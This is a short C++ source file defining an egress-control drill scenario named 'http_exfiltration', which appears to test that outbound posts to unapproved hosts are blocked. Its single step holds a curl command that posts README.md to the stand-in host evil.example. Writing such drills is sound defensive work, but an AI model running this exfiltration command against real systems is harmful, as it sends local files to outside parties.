#include "drill/scenarios/entries.h"

namespace berm::drill {

Scenario http_exfiltration() {
  return {
      .id = "http_exfiltration",
      .title = R"D(A post to a host that nobody allowed)D",
      .incident = R"D(awf#137, #207)D",
      .layer = Layer::egress,
      .steps = {shell(
          R"D(curl -sS -m 5 -d @README.md https://evil.example/; curl -sS -m 5 http://%LISTENER%/; echo drill-control)D")},
      .expected_in_results = {"drill-control"},
      .in_ci = true,
  };
}

}  // namespace berm::drill
